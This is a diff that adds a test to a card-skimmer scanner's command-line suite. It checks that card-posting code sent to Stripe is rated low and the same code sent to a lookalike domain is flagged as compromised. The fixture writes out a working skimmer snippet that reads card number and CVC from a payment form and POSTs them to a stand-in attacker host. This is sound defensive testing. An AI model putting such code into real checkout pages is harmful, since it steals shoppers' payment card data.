@@ -134,4 +134,26 @@ describe('skimscan analyze', () => {
     expect((await run([join(dir, 'skim.js'), '--fail-on', 'none'])).code).toBe(0);
     expect((await run([join(dir, 'clean.js'), join(dir, 'nope.js')])).code).toBe(2);
   });
+  test('card data sent to a well-known processor (a tokenising checkout) is low; the same code sending elsewhere is not', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'skimscan-cli-'));
+    const tokenise = (url: string) => `document.getElementById('payment-form').addEventListener('submit', function (ev) {
+  ev.preventDefault();
+  var b = new URLSearchParams();
+  b.append('card[number]', document.querySelector('[data-stripe="number"]').value);
+  b.append('card[cvc]', document.querySelector('[data-stripe="cvc"]').value);
+  fetch('${url}', { method: 'POST', headers: { Authorization: 'Bearer ' + window.pk }, body: b });
+});`;
+    writeFileSync(join(dir, 'processor.js'), tokenise('https://api.stripe.com/v1/tokens'));
+    writeFileSync(join(dir, 'lookalike.js'), tokenise('https://api.stripe.com.tokens-v1.example/v1/tokens'));
+    const r = await run([join(dir, 'processor.js'), join(dir, 'lookalike.js'), '--json', '-']);
+    const files = JSON.parse(r.out).files as Array<{ path: string; verdict: string; findings: Array<{ ruleId: string; severity: string; message: string; evidence: Record<string, unknown> }> }>;
+    const processor = files.find((f) => f.path.endsWith('processor.js'))!;
+    const skim = processor.findings.find((f) => f.ruleId === 'skimmer')!;
+    expect(skim.severity).toBe('low');
+    expect(skim.evidence.loweredFrom).toBe('critical');
+    expect(skim.message).toMatch(/allowed processor/);
+    expect(processor.verdict).toBe('clean');
+    expect(files.find((f) => f.path.endsWith('lookalike.js'))!.verdict).toBe('compromised');
+    expect(r.code).toBe(1);
+  });
 });
